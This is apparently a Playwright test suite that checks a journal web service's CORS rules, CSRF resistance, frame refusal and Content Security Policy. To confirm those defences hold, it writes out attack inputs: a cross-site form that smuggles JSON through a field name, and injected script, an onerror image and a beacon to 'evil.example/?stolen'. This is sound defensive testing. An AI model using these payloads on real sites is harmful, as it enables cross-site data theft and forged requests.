"""Pages of other origins in a browser: those that are listed use the service, others neither read nor change it."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Browser, Page

from journal.config import Walls
from tests.doors import bearer, may
from tests.harness import Harness, Json, eventually, insert, serving

BLANK = "<!doctype html><title>somebody's page</title>"

ASK = """async ([url, options]) => {
  try {
    const answer = await fetch(url, options);
    const headers = Object.fromEntries(answer.headers);
    return { status: answer.status, type: answer.type, headers, body: await answer.text() };
  } catch (error) {
    return { failed: error.message };
  }
}"""

FOLLOW = """url => {
  window.seen = []; window.failed = 0;
  window.source = new EventSource(url);
  source.onerror = () => failed++;
  source.addEventListener("deltas", event => seen.push(...JSON.parse(event.data).deltas.map(it => it.atom)));
}"""

SUBMIT = """([action, enctype]) => {
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, { method: "post", action, enctype });
  const field = form.appendChild(document.createElement("input"));
  Object.assign(field, { name: '{"changes": [], "x": "', value: '"}' });
  form.submit();
}"""


@asynccontextmanager
async def somewhere() -> AsyncIterator[str]:
    """An origin of somebody else, on a port of its own."""

    async def blank(_: web.Request) -> web.Response:
        return web.Response(text=BLANK, content_type="text/html")

    app = web.Application()
    app.router.add_get("/{path:.*}", blank)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


class Scene:
    """A service, a page that it lists, and one that it does not."""

    def __init__(self, service: Harness, listed: Page, other: Page) -> None:
        self.service, self.listed, self.other = service, listed, other

    async def ask(self, page: Page, path: str, **options: object) -> Json:
        """What a page's script gets to see of an answer."""
        told: Json = await page.evaluate(ASK, [f"{self.service.url}/v1/journals/{path}", options])
        return told


@pytest.fixture
async def scene(browser: Browser, database: str, tmp_path: Path) -> AsyncIterator[Scene]:
    """Pages that are open, and a journal with an atom."""
    async with (
        somewhere() as app,
        somewhere() as evil,
        serving(database, tmp_path, walls=Walls(cors_origins=(app,))) as service,
    ):
        await service.create("j")
        await service.pushed([insert("todo", "a")])
        context = await browser.new_context()
        listed, other = await context.new_page(), await context.new_page()
        await listed.goto(app)
        await other.goto(evil)
        yield Scene(service, listed, other)
        await context.close()


async def test_a_listed_page_reads_answers_their_headers_and_errors(scene: Scene) -> None:
    head = await scene.ask(scene.listed, "j")
    missing = await scene.ask(scene.listed, "no-such")
    snapshot = await scene.ask(scene.listed, "j/snapshot")

    assert (head["status"], head["type"]) == (200, "cors")
    assert '"head":1' in head["body"]
    assert {"etag", "x-request-id"} <= head["headers"].keys()
    assert (missing["status"], "journal_not_found" in missing["body"]) == (404, True)
    assert (snapshot["status"], '"end":true' in snapshot["body"]) == (200, True)
    assert snapshot["headers"]["journal-revision"] == "1"


async def test_a_listed_page_pushes_and_follows_with_a_token(scene: Scene) -> None:
    writer = await bearer(scene.service, may("read", "write", journal="j"))
    headers = {"Authorization": f"Bearer {writer.text}", "Content-Type": "application/json"}
    asked = await scene.ask(scene.listed, "j/stream-tickets", method="POST", headers=headers)
    ticket = json.loads(asked["body"])["ticket"]
    stream = f"{scene.service.url}/v1/journals/j/stream?since=0&ticket={ticket}"
    await scene.listed.evaluate(FOLLOW, stream)

    pushed = await scene.ask(
        scene.listed, "j/changes", method="POST", headers=headers,
        body='{"changes": [{"op": "insert", "collection": "todo", "atom": "b", "data": {}}]}',
    )  # fmt: skip
    unknown = await scene.ask(scene.listed, "j/changes", method="POST", body="{}")

    assert (pushed["status"], unknown["status"]) == (200, 401)

    async def has_seen() -> bool:
        return bool(await scene.listed.evaluate("seen.length === 2 && seen.includes('b')"))

    await eventually(has_seen)
    await scene.listed.evaluate("source.close()")


async def test_other_pages_read_nothing(scene: Scene) -> None:
    for path in ("j", "j/deltas?since=0", "j/snapshot", "no-such", "/nowhere"):
        assert await scene.ask(scene.other, path) == {"failed": "Failed to fetch"}
        blind = await scene.ask(scene.other, path, mode="no-cors")
        assert blind == {"failed": "Failed to fetch"} or (blind["type"], blind["body"]) == ("opaque", "")
    await scene.other.evaluate(FOLLOW, f"{scene.service.url}/v1/journals/j/stream?since=0")

    async def has_failed() -> bool:
        return bool(await scene.other.evaluate("failed > 0 && source.readyState === 2"))

    await eventually(has_failed)
    assert await scene.other.evaluate("seen") == []


async def test_other_pages_change_nothing(scene: Scene) -> None:
    before, here = await scene.service.head(), scene.other.url
    target = f"{scene.service.url}/v1/journals/j"
    plain = {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": "text/plain"}, "body": '{"changes": []}'}

    for path in ("changes", "check", "compact", "resync", "sync"):
        await scene.ask(scene.other, f"j/{path}", **plain)
        assert await scene.ask(scene.other, f"j/{path}", method="POST") == {"failed": "Failed to fetch"}
    for path, enctype in (("check", "application/x-www-form-urlencoded"), ("changes", "text/plain")):
        async with scene.other.expect_response(f"{target}/{path}", timeout=30_000) as answered:
            await scene.other.evaluate(SUBMIT, [f"{target}/{path}", enctype])
        assert (await answered.value).status == 403
        await scene.other.wait_for_url(f"{target}/{path}")
        await scene.other.goto(here)  # the form has led away from it
    for method in ("PUT", "DELETE"):
        assert await scene.ask(scene.other, "j", method=method) == {"failed": "Failed to fetch"}
        assert await scene.ask(scene.other, "new", method=method) == {"failed": "Failed to fetch"}

    assert await scene.service.head() == before
    assert (await scene.service.call("GET", "j/operations")).json["operations"] == []
    assert [it["journal"] for it in (await scene.service.call("GET", "/v1/journals")).json["journals"]] == ["j"]


async def test_no_page_frames_the_console(scene: Scene) -> None:
    await scene.other.set_content(f'<iframe src="{scene.service.url}/console"></iframe>')

    async def is_refused() -> bool:
        frames = [frame.url for frame in scene.other.frames[1:]]
        return bool(frames) and all(url.startswith("chrome-error:") for url in frames)

    await eventually(is_refused)


async def test_the_console_keeps_its_own_policy_and_that_stops_what_is_slipped_in(
    browser: Browser, service: Harness
) -> None:
    page = await browser.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    await page.add_init_script(
        "window.broken = []; addEventListener('securitypolicyviolation', it => broken.push(it.violatedDirective))"
    )
    await page.goto(f"{service.url}/console#/j")
    await page.locator(".figures-row dd").first.wait_for()
    assert (await page.evaluate("broken"), said) == ([], [])

    await page.evaluate("""() => {
      const script = document.body.appendChild(document.createElement("script"));
      script.textContent = "window.taken = 1";
      document.body.insertAdjacentHTML("beforeend",
        "<p style='color: red'></p><img src='https://evil.example/x.png'><img src=x onerror='window.taken = 2'>");
      new Image().src = "https://evil.example/?stolen";
    }""")

    async def are_stopped() -> bool:
        return len(await page.evaluate("broken")) >= 4

    await eventually(are_stopped)
    assert await page.evaluate("window.taken") is None
    assert {"script-src-elem", "img-src"} <= set(await page.evaluate("broken"))
    await page.close()
